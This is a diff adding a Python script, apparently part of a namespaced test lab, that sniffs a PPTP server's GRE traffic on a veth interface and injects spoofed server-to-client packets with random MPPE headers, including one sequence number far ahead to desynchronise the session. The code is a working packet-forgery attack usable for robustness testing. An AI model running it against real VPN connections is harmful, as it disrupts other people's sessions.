@@ -1,0 +1,88 @@
+#!/usr/bin/env python3
+"""Forge GRE packets towards the client, spoofing the PPTP server: run inside the
+server's namespace. It learns the call's key, sequence number and the two MAC
+addresses from one real server->client packet seen on the veth (s0), then writes
+forgeries straight onto that veth, so they reach the client exactly as the
+server's own packets do.
+
+    forge_gre.py SERVER CLIENT COUNT
+
+Sends one packet with the sequence number 2^30 ahead, then COUNT packets just
+ahead of the real sequence with random MPPE headers (random coherency counts,
+flushed bit or not) and random bodies. Prints what it sent as JSON."""
+import json
+import os
+import random
+import socket
+import struct
+import sys
+import time
+
+ETH_P_ALL = 0x0003
+IFACE = "s0"
+
+
+def csum(b):
+    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
+    while s > 0xFFFF:
+        s = (s & 0xFFFF) + (s >> 16)
+    return (~s) & 0xFFFF
+
+
+def sniff(sock, server, client, deadline):
+    """One server->client GRE data packet with a sequence number."""
+    while time.monotonic() < deadline:
+        sock.settimeout(max(0.1, deadline - time.monotonic()))
+        try:
+            frame = sock.recv(65535)
+        except socket.timeout:
+            break
+        if len(frame) < 14 + 20 + 12 or frame[12:14] != b"\x08\x00":
+            continue
+        ip = frame[14:]
+        ihl = (ip[0] & 0x0F) * 4
+        if ip[9] != 47 or ip[12:16] != server or ip[16:20] != client:
+            continue
+        gre = ip[ihl:]
+        flags, proto, plen, call_id = struct.unpack("!HHHH", gre[:8])
+        if proto != 0x880B or not flags & 0x1000:
+            continue
+        seq = struct.unpack("!I", gre[8:12])[0]
+        return frame[0:6], frame[6:12], call_id, seq
+    raise SystemExit("no GRE packet from the server to the client seen on " + IFACE)
+
+
+def packet(dst_mac, src_mac, server, client, call_id, seq, ppp):
+    gre = struct.pack("!HHHHI", 0x3001, 0x880B, len(ppp), call_id, seq & 0xFFFFFFFF) + ppp
+    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(gre), random.getrandbits(16), 0, 64, 47, 0, server, client)
+    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
+    return dst_mac + src_mac + b"\x08\x00" + hdr + gre
+
+
+def mppe_garbage():
+    cc = random.getrandbits(12)
+    bits = 0x10 | (0x80 if random.random() < 0.5 else 0)
+    body = os.urandom(random.randint(20, 200))
+    return b"\xff\x03\x00\xfd" + struct.pack("!H", (bits << 8) | cc) + body
+
+
+def main():
+    server, client = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
+    count = int(sys.argv[3])
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
+    sock.bind((IFACE, 0))
+    dst_mac, src_mac, call_id, seq = sniff(sock, server, client, time.monotonic() + 10)
+    sent = 0
+    # Far ahead: committing it would make every real packet "late".
+    sock.send(packet(dst_mac, src_mac, server, client, call_id, seq + (1 << 30), mppe_garbage()))
+    sent += 1
+    for i in range(count):
+        sock.send(packet(dst_mac, src_mac, server, client, call_id, seq + 1 + i % 64, mppe_garbage()))
+        sent += 1
+        if i % 50 == 49:
+            time.sleep(0.05)
+    print(json.dumps({"call_id": call_id, "seq_seen": seq, "sent": sent}))
+
+
+if __name__ == "__main__":
+    main()
